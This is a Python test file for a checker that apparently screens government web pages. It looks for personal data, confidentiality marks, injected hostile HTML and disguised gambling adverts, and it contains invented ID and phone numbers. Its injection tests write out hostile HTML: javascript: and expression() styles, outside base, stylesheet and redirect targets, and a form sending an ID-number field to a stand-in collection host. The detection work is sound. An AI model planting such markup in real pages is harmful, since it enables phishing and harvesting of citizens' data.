"""Rules found missing by papers nobody here had seen, with cases of their own."""

from datetime import date

import pytest

from mingtang.kernel.guard.about import About, Writer
from mingtang.kernel.guard.engine import check
from mingtang.kernel.guard.hits import Severity
from mingtang.kernel.guard.knowledge import Knowledge
from mingtang.kernel.guard.markup import pieces_of_html
from mingtang.kernel.guard.names import detectors as names
from mingtang.kernel.guard.personal import detectors as personal
from mingtang.kernel.guard.pieces import Part, Piece, Place
from tests.kernel.guard.injected import hits as injected
from tests.kernel.guard.injected import said
from tests.kernel.guard.looking import hits_in, paragraphs, table

assert names
assert personal
ABOUT = About(today=date(2026, 11, 26), dated=date(2026, 11, 20))
CITIZEN = About(today=date(2026, 11, 26), writer=Writer.CITIZEN)


def of(kind: str, *texts: str, about: About = ABOUT, part: Part = Part.BODY) -> list[str]:
    return [hit.text for hit in hits_in(paragraphs(*texts, part=part), kind, about)]


def rows(kind: str, drawn: str) -> list[str]:
    return [hit.text for hit in hits_in(table(drawn), kind, ABOUT)]


# Names


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("邝永福，身份证号：51302219630412771X", "邝永福"),
        ("家属冒志强（身份证号：51302219630412771X）", "冒志强"),
        ("其老伴骆桂英，身份证号：51302219630412771X", "骆桂英"),
        ("Anna Keller，护照号码：C1234567", "Anna Keller"),
    ],
)
def test_rare_surnames_and_names_in_latin_letters_are_found_beside_a_number(text: str, name: str) -> None:
    assert of("personal.name", text) == [name]


@pytest.mark.parametrize(
    "text",
    [
        "全家人，身份证号：51302219630412771X",
        "国家税务局，身份证号：51302219630412771X",
        "代办人须持身份证号51302219630412771X的原件",
    ],
)
def test_words_that_could_be_surnames_are_no_names(text: str) -> None:
    assert of("personal.name", text) == []


def test_who_calls_is_named_beside_the_telephone_in_the_next_clause() -> None:
    assert of("personal.name", "来电人：沈国庆；电话：13512340987") == ["沈国庆"]
    assert of("personal.name", "联系人：沈国庆；电话：13512340987") == []


# Numbers


@pytest.mark.parametrize(
    ("kind", "text", "number"),
    [
        ("id_number", "身份证：513022，19630412，771X", "513022，19630412，771X"),
        ("bank_card", "卡号：6222，0202，0001，2345，670", "6222，0202，0001，2345，670"),
        ("mobile", "电话：135 123 409 87", "135 123 409 87"),
        ("mobile", "电话：135123-40987", "135123-40987"),
        ("mobile", "电话 l35l234O987", "l35l234O987"),
        ("mobile", "电话₁₃₅₁₂₃₄₀₉₈₇", "₁₃₅₁₂₃₄₀₉₈₇"),
        ("mobile", "电话：一三五一二三四O九八七", "一三五一二三四O九八七"),
        ("passport", "护照号：E12 345 678", "E12 345 678"),
        ("passport", "护照号：EA1/234/567", "EA1/234/567"),
        ("social_card", "社保卡上的号码是B33819002", "B33819002"),
        ("social_card", "社保卡号：B三三八一九〇〇二", "B三三八一九〇〇二"),
        ("chat_account", "扣扣八八三一二九四六五", "八八三一二九四六五"),
    ],
)
def test_numbers_in_groups_and_disguises_are_found(kind: str, text: str, number: str) -> None:
    assert of(f"personal.{kind}", text) == [number]


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("mobile", "（2025）皖01民初13512340987号判决书"),
        ("bank_card", "中标供应商收款账号：34050111222233334445"),
        ("chat_account", "微信公众号：某某发布（微信号：moumoufabu88）"),
    ],
)
def test_numbers_of_cases_firms_and_offices_are_nobodys(kind: str, text: str) -> None:
    assert of(f"personal.{kind}", text) == []


@pytest.mark.parametrize(
    "written",
    [
        "lihua66(at)163.com",
        "lihua66 @ 163.com",
        "lihua66#163.com",
        "lihua66@163。com",
        "lihua66[at]163[dot]com",
    ],
)
def test_mailboxes_are_found_however_their_sign_is_written(written: str) -> None:
    assert of("personal.email", f"沈国庆，邮箱：{written}，谢谢") == [written]


def test_a_mailbox_ends_at_the_sentence() -> None:
    assert of("personal.email", "沈国庆，邮箱：lihua66@163.com。QQ留空") == ["lihua66@163.com"]


def test_the_target_of_a_mail_link_only_informs() -> None:
    pieces = pieces_of_html('<p>写信给<a href="mailto:lihua66@163.com">她</a></p>')
    (hit,) = hits_in(pieces, "personal.email", ABOUT)
    assert hit.severity == Severity.INFORM


# Tables


def test_the_account_of_a_firm_in_a_list_of_people_is_left_alone() -> None:
    drawn = """
收款人|收款账号|金额
沈国庆|6222020200012345670|300
青槐县大通路桥有限公司|34050111222233334445|90000
"""
    assert rows("personal.bank_card", drawn) == ["6222020200012345670"]


def test_a_column_of_posts_does_not_make_telephones_beside_identity_numbers_official() -> None:
    drawn = """
姓名|身份证号|电话|岗位
沈国庆|51302219630412771X|13512340987|护林员
"""
    assert rows("personal.column", drawn) == ["身份证号", "电话"]


@pytest.mark.parametrize("head", ["共同申请人", "被征收人", "来电人", "主申请人"])
def test_more_heads_name_people(head: str) -> None:
    assert rows("personal.name", f"序号|{head}|手机号码\n1|沈国庆|13512340987") == ["沈国庆"]


def test_results_of_examinations_are_about_health_unless_they_only_say_passed() -> None:
    drawn = "姓名|体检结果\n沈国庆|脂肪肝\n韩秋菊|合格"
    assert rows("personal.health", drawn) == ["脂肪肝"]


# Health, addresses


def test_a_diagnosis_belongs_to_whom_the_paragraph_gave_the_number_of() -> None:
    text = "职工沈国庆，身份证号：51302219630412771X。送医后诊断为粉碎性骨折。"
    assert of("personal.health", text) == ["粉碎性骨折"]


def test_a_title_that_speaks_of_a_home_does_not_silence_the_letter_below() -> None:
    pieces = [
        Piece("我家屋顶漏水", Place(Part.TITLE)),
        Piece("我叫沈国庆，电话13512340987。我妻子韩秋菊患有肺结核。", Place(Part.BODY, block=1)),
    ]
    kinds = {hit.kind for hit in check(pieces, CITIZEN, Knowledge()).hits}
    assert {"personal.mobile", "personal.health", "personal.name"} <= kinds


def test_a_flat_behind_the_address_of_an_office_is_no_office() -> None:
    known = Knowledge(addresses=frozenset(["青槐县和平路12号"]))
    text = "沈国庆，身份证号51302219630412771X，住青槐县和平路12号锦绣小区3栋2单元501室"
    assert hits_in(paragraphs(text), "personal.address", ABOUT, known)


def test_the_address_of_a_caller_is_private_though_only_the_surname_is_given() -> None:
    text = "市民韩女士（来电13512340987）反映，地址和平街18号院3栋401。"
    assert of("personal.address", text) == ["和平街18号院3栋401"]


# Marks


@pytest.mark.parametrize(
    ("kind", "text", "mark"),
    [
        ("draft", "草案二次审议稿", "草案二次审议稿"),
        ("not_open", "是否公开：否", "否"),
        ("internal", "本通报仅发至各县直单位，不得转发", "仅发至各县直单位，不得转发"),
    ],
)
def test_more_marks(kind: str, text: str, mark: str) -> None:
    assert of(f"marks.{kind}", text) == [mark]


def test_a_rule_on_marks_is_no_mark() -> None:
    assert of("marks.secret", "涉密件首页应标注“机密★保密期限”字样。") == []
    assert of("marks.not_open", "是否公开：是") == []


# Injection


@pytest.mark.parametrize(
    ("source", "kind"),
    [
        ("<p style=\"background:url(javascript:open('//x.y'))\">通知</p>", "script"),
        ('<p style="width:exp/**/ression(alert(1))">通知</p>', "script"),
        ('<base href="http://files.elsewhere.net/"><p>通知</p>', "host"),
        ('<form action="http://collect.elsewhere.net/a.php"><input name="sfzh"></form>', "host"),
        ('<link rel="stylesheet" href="http://css.elsewhere.net/x.css"><p>通知</p>', "host"),
        ('<p><a href="https://dwz.cn/abc123">报名</a></p>', "host"),
        ('<p><a href="http://www.shebao-gov.online/">社保</a></p>', "host"),
        ('<meta http-equiv="refresh" content="3; http://www.elsewhere.top/">', "redirect"),
    ],
)
def test_more_ways_out_of_a_page_are_found(source: str, kind: str) -> None:
    assert {kind for kind, severity, _ in said(source) if severity != "inform"} == {kind}


@pytest.mark.parametrize(
    "source",
    [
        '<p style="background:url(/images/a.png)">通知</p>',
        '<form action="/search"><input name="q"></form>',
        '<base href="https://www.mingtang.gov.cn/">',
        '<meta http-equiv="refresh" content="300">',
    ],
)
def test_usual_pages_stay_quiet(source: str) -> None:
    assert said(source) == []


@pytest.mark.parametrize(
    "text",
    [
        "葡丨京丨赌丨场丨开户",
        "时\n时\n彩\n平\n台",
        "𝐛𝐞𝐭365 注册送彩金",
        "<style>.k::after{content:'百家乐开户送彩金'}</style><p>通知</p>",
    ],
)
def test_more_disguises_of_adverts_are_found(text: str) -> None:
    assert {hit.kind for hit in injected(text)} == {"injection.gambling"}


def test_what_an_advert_sells_decides_its_kind_and_not_its_offers() -> None:
    assert {hit.kind for hit in injected("彩票计划，包中包赢，充值返利，立即下载")} == {"injection.gambling"}


def test_the_domain_of_a_written_mailbox_is_no_hidden_address() -> None:
    assert said("邮箱：lihua66[at]qq[dot]com") == []


@pytest.mark.parametrize(
    "text",
    [
        "以案释法：小张染上“老虎机”，“注册送彩金”原来都是圈套。",
        "逢赌必输！他沉迷百家乐，输光了积蓄，债台高筑。",
    ],
)
def test_tales_of_those_who_lost_all_are_no_adverts(text: str) -> None:
    assert injected(text) == []
